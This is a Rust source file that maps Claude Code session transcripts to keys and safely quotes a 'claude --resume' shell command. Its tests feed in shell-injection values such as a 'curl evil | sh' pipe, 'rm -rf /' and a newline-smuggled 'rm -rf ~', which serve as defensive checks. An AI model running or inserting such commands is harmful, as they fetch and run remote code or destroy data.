//! Which session a transcript file is: Claude Code names a session by its file's uuid, and
//! a copy of it in another workspace (`eywa sessions migrate`, or `cp`) has the same name.
//! eywa keys the first file it knew by the uuid and each copy by the uuid and a mark of
//! the copy's project folder, so both are sessions of their own.

use sha2::{Digest, Sha256};

/// Between a session's uuid and the project-folder mark of a copy: `<uuid>~<mark>`.
const COPY_MARK: char = '~';

/// Claude Code's id of the session eywa keys as `key`: the key, or a copy's uuid (what
/// `claude --resume` takes and what names its folder of subagents and tool results).
pub fn claude_id(key: &str) -> &str {
    key.split_once(COPY_MARK).map_or(key, |(id, _)| id)
}

/// The key of a copy of session `id` (a uuid, or `agent-<id>`) whose transcript sits in
/// the project folder `project_dir`: the same for that folder on every run.
pub fn copy_key(id: &str, project_dir: &str) -> String {
    let digest = Sha256::digest(project_dir.as_bytes());
    let mark: String = digest[..4].iter().map(|b| format!("{b:02x}")).collect();
    format!("{id}{COPY_MARK}{mark}", id = claude_id(id))
}

/// The short id of a session key, as handoffs name it: the uuid's first 8 characters,
/// and for a copy its mark (two handoffs of one day must not share a file).
pub fn short_id(key: &str) -> String {
    let id: String = claude_id(key).chars().take(8).collect();
    match key.split_once(COPY_MARK) {
        Some((_, mark)) => format!("{id}{COPY_MARK}{mark}"),
        None => id,
    }
}

/// A copy's key carried over to one of its subagents: `agent-<id>` of a copy's folder is
/// `agent-<id>~<mark>`, the mark of its parent.
pub fn agent_key(agent_id: &str, parent: &str) -> String {
    match parent.split_once(COPY_MARK) {
        Some((_, mark)) => format!("agent-{agent_id}{COPY_MARK}{mark}"),
        None => format!("agent-{agent_id}"),
    }
}

/// Whether a session was imported from a Python Eywa folder (`eywa:<short id>`): Claude
/// Code never had it, and eywa has its handoff only, no transcript.
pub fn is_imported(session_id: &str) -> bool {
    session_id.starts_with("eywa:")
}

/// The command that takes session `key` up again in Claude Code, from `cwd` when given:
/// `None` for a session Claude Code never had (a handoff imported from Python Eywa,
/// `eywa:<id>`) or no session at all. A copy resumes by its uuid from its own workspace.
///
/// The command is pasted into a shell, and the folder and id come from a transcript:
/// each is single-quoted when it holds anything but plain path characters, and a folder
/// or id with a control character (a newline would end the command) gives no command.
pub fn resume_command(key: &str, cwd: Option<&str>) -> Option<String> {
    if key.is_empty() || is_imported(key) {
        return None;
    }
    let id = shell_word(claude_id(key))?;
    Some(match cwd.filter(|c| !c.is_empty()) {
        Some(cwd) => format!("cd {} && claude --resume {id}", shell_word(cwd)?),
        None => format!("claude --resume {id}"),
    })
}

/// `word` as a shell reads it back as one word: as it is when it holds only characters a
/// shell gives no meaning to, else single-quoted (a `'` inside written `'\''`); `None`
/// when it holds a control character.
fn shell_word(word: &str) -> Option<std::borrow::Cow<'_, str>> {
    if word.chars().any(char::is_control) {
        return None;
    }
    let plain = |c: char| c.is_alphanumeric() || "/._-+@%,:=~".contains(c);
    // A leading `~` would be expanded; quoted, it is the folder of that name.
    if !word.is_empty() && word.chars().all(plain) && !word.starts_with('~') {
        return Some(std::borrow::Cow::Borrowed(word));
    }
    Some(std::borrow::Cow::Owned(format!(
        "'{}'",
        word.replace('\'', r"'\''")
    )))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_resume_command_is_one_shell_word_per_argument_whatever_the_transcript_says() {
        let id = "a1b2c3d4-0000-4000-8000-000000000001";
        let resume = |cwd: &str| resume_command(id, Some(cwd));
        assert_eq!(
            resume("/w/app").unwrap(),
            format!("cd /w/app && claude --resume {id}")
        );
        assert_eq!(
            resume("/Users/a/My Project").unwrap(),
            format!("cd '/Users/a/My Project' && claude --resume {id}")
        );
        assert_eq!(
            resume("/tmp; curl evil | sh #").unwrap(),
            format!("cd '/tmp; curl evil | sh #' && claude --resume {id}")
        );
        assert_eq!(
            resume("/w/it's $(x)").unwrap(),
            format!(r"cd '/w/it'\''s $(x)' && claude --resume {id}")
        );
        assert_eq!(
            resume("~/w").unwrap(),
            format!("cd '~/w' && claude --resume {id}")
        );
        assert_eq!(resume("/w/a\nrm -rf ~"), None);
        assert_eq!(
            resume_command("x; rm -rf /", None).unwrap(),
            "claude --resume 'x; rm -rf /'"
        );
        assert_eq!(resume_command("x\ny", None), None);
    }

    #[test]
    fn a_copy_key_names_its_folder_and_keeps_the_claude_id() {
        let id = "4379d1bf-ccb1-414e-a856-9791b73f3af2";
        let copy = copy_key(id, "-tmp-elsewhere");
        assert_ne!(copy, id);
        assert_eq!(copy, copy_key(id, "-tmp-elsewhere"));
        assert_ne!(copy, copy_key(id, "-tmp-other"));
        assert_eq!(claude_id(&copy), id);
        assert_eq!(claude_id(id), id);
        assert_eq!(copy_key(&copy, "-tmp-other"), copy_key(id, "-tmp-other"));
        assert_eq!(short_id(id), "4379d1bf");
        assert!(short_id(&copy).starts_with("4379d1bf~"));
        assert_eq!(short_id(&copy).len(), 8 + 1 + 8);
        assert_eq!(agent_key("a1", id), "agent-a1");
        assert_eq!(claude_id(&agent_key("a1", &copy)), "agent-a1");
        assert_eq!(
            resume_command(&copy, Some("/tmp/elsewhere")).as_deref(),
            Some("cd /tmp/elsewhere && claude --resume 4379d1bf-ccb1-414e-a856-9791b73f3af2")
        );
        assert_eq!(resume_command("eywa:8735508d", None), None);
    }
}
